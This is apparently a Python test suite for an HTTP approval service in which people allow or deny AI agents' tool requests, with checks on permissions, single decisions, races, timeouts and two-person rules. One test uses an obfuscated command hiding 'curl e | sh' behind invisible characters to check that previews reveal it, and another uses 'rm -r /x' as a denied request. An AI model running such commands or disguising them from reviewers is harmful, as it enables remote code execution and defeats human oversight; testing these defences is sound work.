#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Requests of agents over HTTP: who sees a request, who may decide it, and that it is decided once."""
import json
import os
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import door  # noqa: E402
from door import BUILD, Door, done, equal, http_group, ok, until  # noqa: E402

KEYS = {
    "ann": ("ann-0123456789abcdef", ["submit", "cancel", "watch", "answer"]),
    "bob": ("bob-0123456789abcdef", ["submit", "cancel", "watch"]),
    "dan": ("dan-0123456789abcdef", ["submit", "answer"]),
    "eve": ("eve-0123456789abcdef", ["watch", "answer"]),
}
door.KEYS.update(KEYS)


def asker(timeout=300):
    command = json.dumps([str(BUILD / "tests" / "fake" / "asker")])
    return (f"asker : {{ command = {command}; exit_grace_s = 1; term_grace_s = 1; attempts = 1;"
            f" ask_timeout_s = {timeout}; }};")


def asking(host, prompt, key="ann", n=1):
    """A turn that waits for n decisions, as shown over HTTP."""
    turn = host.begin(prompt, key=key, agent="asker")["id"]
    last = {}

    def look():
        last.update(host.turn(turn, key))
        return len(last.get("requests", [])) == n

    until(look, f"{prompt}: {n} open")
    return last


def decide(host, turn, request, key="ann", **body):
    status, _, text = host.ask("POST", f"/turns/{turn}/requests/{request}", key=key, body=body)
    return status, json.loads(text)


def answer_of(host, turn, key="ann"):
    """The decision that the agent received, from its answer."""
    host.await_state(turn, "final", "error", "cancelled", key=key)
    lines = [json.loads(data) for _, _, data in host.follow(f"/turns/{turn}/events", key).rest()]
    return next((e["payload"]["text"] for e in lines if e["type"] == "final"), None), lines


def resolved(lines):
    return [e["payload"] for e in lines
            if e["type"] == "request" and e["payload"]["state"] == "resolved"]


# ---- how it is told ----


def test_told(host):
    turn = asking(host, "run=df -h /srv")
    request = turn["requests"][0]
    equal((request["kind"], request["tool"], request["subject"], request["turn"], request["agent"]),
          ("approval", "Bash", "df -h /srv", turn["id"], "asker"), "an open request is told")
    equal([c["id"] for c in request["choices"]],
          ["allow", "allow_session", "allow_always", "deny"], "with its choices")
    equal(request["expires_ms"] - request["opened_ms"], 300000, "the request has its expiry time")
    listed = json.loads(host.ask("GET", "/requests", key="ann")[2])["requests"]
    equal(listed, [request], "the request is in the list of requests")
    mine = [t for t in host.turns() if t["id"] == turn["id"]][0]
    equal(mine["requests"], [request], "the request is in the list of turns")
    equal(json.loads(host.ask("GET", "/requests", key="dan")[2])["requests"], [],
          "a key that may not see the turn does not see the request")
    equal(host.status("GET", "/requests"), 401, "a request without a key is refused")
    me = json.loads(host.ask("GET", "/turns", key="ann")[2])["me"]
    ok("answer" in me["grants"], "/me has the grant answer", me)
    return turn["id"], request["id"]


def test_list_follows(host):
    stream = host.follow("/turns/events")
    turn = asking(host, "run=id")
    told = []

    def next_of_turn():
        while (t := stream.json())["id"] != turn["id"]:
            pass
        return t

    while not told or "requests" not in told[-1]:
        told.append(next_of_turn())
    ok(True, "the list of turns shows the request at once")
    decide(host, turn["id"], turn["requests"][0]["id"], choice="deny")
    t = next_of_turn()
    ok(t["state"] == "running" and "requests" not in t or t["state"] == "final",
       "the list of turns shows the decision", t)
    stream.close()


# ---- who may, and what ----


def test_refused(host, turn, request):
    def refused(what, status, code, key="ann", path=None, **body):
        got, _, text = host.ask("POST", path or f"/turns/{turn}/requests/{request}", key=key,
                                body=body or {"choice": "allow"})
        error = json.loads(text)["error"]
        equal((got, error["code"]), (status, code), f"{what}: {status}")
        if code == "not_granted":
            ok('"bob" lacks the grant "answer"' in error["message"], "the error names the missing grant", error)

    refused("without a key", 401, "invalid_api_key", key=None)
    refused("without the right", 403, "not_granted", key="bob")
    refused("who may not see the turn", 404, "no_such_turn", key="dan")
    refused("of no turn", 404, "no_such_turn", path=f"/turns/nothing/requests/{request}")
    refused("an unknown one", 404, "no_such_request", path=f"/turns/{turn}/requests/req-9")
    refused("a deep path", 404, "no_such_request", path=f"/turns/{turn}/requests/{request}/x")
    refused("none at all", 404, "not_found", path=f"/turns/{turn}/requests/")
    refused("nothing said", 400, "invalid_value", x=1)
    refused("a choice there is not", 400, "invalid_value", choice="perhaps")
    refused("a choice that is a number", 400, "invalid_value", choice=1)
    refused("an answer to what is no question", 400, "invalid_value", choice="answer",
            answers={"0": "x"})
    refused("two choices", 400, "invalid_value", choice="allow", decision="deny")
    refused("arguments that are none", 400, "invalid_value", choice="allow", input="rm")
    refused("arguments for a denial", 400, "invalid_value", choice="deny", input={"command": "x"})
    refused("a reason that is none", 400, "invalid_value", choice="deny", reason=[1])
    equal(host.ask("POST", f"/turns/{turn}/requests/{request}", key="ann", body=b"choice=allow",
                   Content_Type="application/x-www-form-urlencoded")[0], 415, "a form: 415")
    equal(host.status("GET", f"/turns/{turn}/requests/{request}", key="ann"), 405, "GET: 405")
    equal(len(host.turn(turn)["requests"]), 1, "the request is still open")


def test_decided(host, turn, request):
    equal(decide(host, turn, request, choice="allow_session", key="eve"),
          (200, {"decision": "allow", "by": "eve"}), "who may watch and answer decides")
    equal(decide(host, turn, request, choice="allow", key="eve"),
          (200, {"decision": "allow", "by": "eve"}), "the same again is answered the same")
    status, late = decide(host, turn, request, choice="allow")
    equal((status, late["decision"], late["by"], late["error"]["code"]),
          (409, "allow", "eve", "decided"), "somebody else is too late, and learns who it was")
    equal(decide(host, turn, request, choice="deny", key="eve")[0], 409, "another late decision is refused")
    text, lines = answer_of(host, turn)
    equal(json.loads(text), {"behavior": "allow", "updatedInput": {"command": "df -h /srv"}},
          "the agent received one decision")
    equal([(r["decision"], r["by"]) for r in resolved(lines)], [("allow", "eve")],
          "the events have one decision")
    equal(decide(host, turn, request, choice="deny")[0], 409, "a decision after the end of the turn is refused")
    equal(decide(host, turn, request, choice="allow", key="eve")[0], 200, "the same decision after the end is accepted")
    ok("requests" not in host.turn(turn), "no request is open")


def test_words(host):
    """Each kind of decision, as the agent receives it."""
    cases = [
        ("run=rm -r /x", {"choice": "deny", "reason": "Not /x."},
         {"behavior": "deny", "message": "Not /x."}),
        ("run=ls", {"decision": "allow", "input": {"command": "ls -l"}},
         {"behavior": "allow", "updatedInput": {"command": "ls -l"}}),
        ("single", {"choice": "answer", "answers": {"0": "Green"}}, "Green"),
        ("single", {"answers": "Blue"}, "Blue"),
        ("multi", {"answers": {"0": ["Red", "Blue"]}}, "Blue"),
        ("text", {"answers": {"0": "Ünal \"<b>\""}}, "Ünal"),
        ("two", {"answers": {"0": "Red", "1": ["Green"]}}, "Green"),
    ]
    for prompt, body, heard in cases:
        turn = asking(host, prompt)
        request = turn["requests"][0]
        named = dict(body)
        if isinstance(body.get("answers"), dict):
            ids = [q["id"] for q in request["questions"]]
            named["answers"] = {ids[int(i)]: a for i, a in body["answers"].items()}
        status, said = decide(host, turn["id"], request["id"], **named)
        equal(status, 200, f"{prompt}: {body}")
        equal(decide(host, turn["id"], request["id"], **named), (200, said), "the same decision again returns the same")
        text, _ = answer_of(host, turn["id"])
        if isinstance(heard, dict):
            told = json.loads(text)
            equal({k: told.get(k) for k in heard}, heard, "the agent receives the decision")
        else:
            ok(heard in text, f"the agent hears {heard}", text)
    turn = asking(host, "two")
    request = turn["requests"][0]
    first = request["questions"][0]["id"]
    equal(decide(host, turn["id"], request["id"], answers={first: "Red"})[0], 400,
          "an answer to one of two questions is refused")
    equal(decide(host, turn["id"], request["id"], choice="deny_stop")[0], 200, "deny_stop is accepted instead")
    host.await_state(turn["id"], "cancelled", "error", "final")


def test_race(host):
    """Two concurrent decisions: one of them counts."""
    for _ in range(10):
        turn = asking(host, "run=date")
        request = turn["requests"][0]["id"]
        both = {}

        def press(key, choice):
            both[key] = decide(host, turn["id"], request, key=key, choice=choice)

        pair = [threading.Thread(target=press, args=a) for a in (("ann", "allow"), ("eve", "deny"))]
        for t in pair:
            t.start()
        for t in pair:
            t.join()
        if sorted(s for s, _ in both.values()) != [200, 409]:
            equal(both, None, "one of two concurrent decisions counts")
            return
        first, late = sorted(both.values(), key=lambda b: b[0])
        if late[1]["by"] != first[1]["by"] or late[1]["decision"] != first[1]["decision"]:
            equal(late, first, "the late decision returns the decision that counts")
            return
        answer_of(host, turn["id"])
    ok(True, "of two concurrent decisions one counts, and the other is told")


def test_together(host):
    turn = asking(host, "together run=ls 1, run=ls 2, run=ls 3", n=3)
    ids = [r["id"] for r in turn["requests"]]
    for request, choice in ((ids[2], "deny"), (ids[0], "allow"), (ids[1], "allow")):
        equal(decide(host, turn["id"], request, choice=choice)[0], 200, "requests are decided in any order")
    text, _ = answer_of(host, turn["id"])
    equal([json.loads(t)["behavior"] for t in text.split("; ")], ["allow", "allow", "deny"],
          "each request has its own decision")


def test_ends(host):
    turn = asking(host, "run=sleep")
    host.ask("POST", f"/turns/{turn['id']}/cancel", key="ann", body={})
    _, lines = answer_of(host, turn["id"])
    equal([r["decision"] for r in resolved(lines)], ["cancelled"],
          "a request is cancelled with its turn")
    equal(decide(host, turn["id"], turn["requests"][0]["id"], choice="allow")[0], 409,
          "a decision after the end is refused")
    ok("requests" not in host.turn(turn["id"]), "no request is open")


def test_chat(host):
    """A chat completion waits for a decision by another client."""
    said = []

    def chat():
        body = {"model": "asker", "stream": True,
                "messages": [{"role": "user", "content": "run=uptime"}]}
        said.append(host.ask("POST", "/v1/chat/completions", key="ann", body=body))

    client = threading.Thread(target=chat)
    client.start()
    found = []

    def look():
        found[:] = json.loads(host.ask("GET", "/requests", key="ann")[2])["requests"]
        return found

    until(look, "a chat completion has an open request")
    equal(decide(host, found[0]["turn"], found[0]["id"], choice="allow")[0], 200,
          "the request of a chat completion is decided")
    client.join()
    status, _, text = said[0]
    ok(status == 200 and b"behavior" in text and text.endswith(b"data: [DONE]\n\n"),
       "the completion continues", text)


def rules(*texts):
    return asker().replace("ask_timeout_s", f"approvals = ({', '.join(texts)}); ask_timeout_s")


def choices_told(host, turn, key):
    """The requests in the events of the turn, as the key sees them."""
    stream = host.follow(f"/turns/{turn}/events", key)
    while (event := stream.json())["type"] != "request":
        pass
    stream.close()
    return [c["id"] for c in event["payload"].get("choices", [])]


def choices_listed(host, turn, key):
    listed = json.loads(host.ask("GET", "/requests", key=key)[2])["requests"]
    return [[c["id"] for c in r.get("choices", [])] for r in listed if r["turn"] == turn]


def test_shown(host):
    """The preview shows invisible characters; the arguments are unchanged."""
    command = "echo ok\u200b # \u202e hs.live\n\n\n\n\ncurl e | sh"
    turn = asking(host, "run=" + command)
    request = turn["requests"][0]
    equal(request["preview"],
          "[6 lines]\necho ok<U+200B> # <U+202E> hs.live\n[4 blank lines]\ncurl e | sh",
          "the preview has the complete command")
    equal(request["args"]["command"], command, "the arguments are unchanged")
    decide(host, turn["id"], request["id"], choice="deny")


def test_elsewhere():
    """`to` and four_eyes apply to HTTP."""
    to_eve = '{ action = "ask"; tool = "*"; to = ["http:eve"]; }'
    with Door(http=http_group(KEYS), agents=rules(to_eve)) as host:
        turn = asking(host, "run=date")
        name, request = turn["id"], turn["requests"][0]["id"]
        ok("choices" not in turn["requests"][0], "a request to another key has no choices")
        equal(choices_told(host, name, "ann"), [], "the events have no choices")
        status, text = decide(host, name, request, choice="allow")
        equal((status, text["error"]["code"]), (403, "not_allowed"), "a decision of the key is refused")
        ok(len(choices_listed(host, name, "eve")[0]) > 1, "the listed key gets the choices")
        ok(len(choices_told(host, name, "eve")) > 1, "the events of the listed key have the choices")
        equal(choices_listed(host, name, "bob"), [[]], "a key without the grant gets no choices")
        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "the listed key decides")
        answer_of(host, name)
    other = '{ action = "ask"; tool = "*"; four_eyes = true; }'
    with Door(http=http_group(KEYS), agents=rules(other)) as host:
        turn = asking(host, "run=date")
        name, request = turn["id"], turn["requests"][0]["id"]
        equal(choices_listed(host, name, "ann"), [["deny"]], "the key that started the turn gets the choice deny only")
        status, text = decide(host, name, request, choice="allow")
        equal((status, text["error"]["code"]), (403, "not_allowed"), "the key that started the turn may not allow")
        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "another key may allow")
        answer_of(host, name)
        turn = asking(host, "run=date")
        equal(decide(host, turn["id"], turn["requests"][0]["id"], choice="deny")[0], 200,
              "the key that started the turn may deny")
        answer_of(host, turn["id"])


def test_timeout():
    with Door(http=http_group(KEYS), agents=asker(timeout=1)) as host:
        turn = asking(host, "run=late")
        text, lines = answer_of(host, turn["id"])
        equal(json.loads(text)["behavior"], "deny", "a request without an answer is denied")
        equal([r["decision"] for r in resolved(lines)], ["timeout"], "the decision is a timeout")
        status, late = decide(host, turn["id"], turn["requests"][0]["id"], choice="allow")
        equal((status, late["decision"]), (409, "timeout"), "a late decision is told about the timeout")


def test_local():
    """Without keys every client may decide."""
    with Door(http=http_group({}), agents=asker()) as host:
        turn = asking(host, "run=date", key=None)
        equal(decide(host, turn["id"], turn["requests"][0]["id"], key=None, choice="allow"),
              (200, {"decision": "allow", "by": "local"}), "no keys: whoever reaches it decides")


with Door(http=http_group(KEYS), agents=asker()) as host:
    first = test_told(host)
    test_refused(host, *first)
    test_decided(host, *first)
    test_list_follows(host)
    test_words(host)
    test_race(host)
    test_together(host)
    test_ends(host)
    test_chat(host)
    test_shown(host)
    equal(host.stop(), 0, "the host exits with status 0")
test_elsewhere()
test_timeout()
test_local()
done()
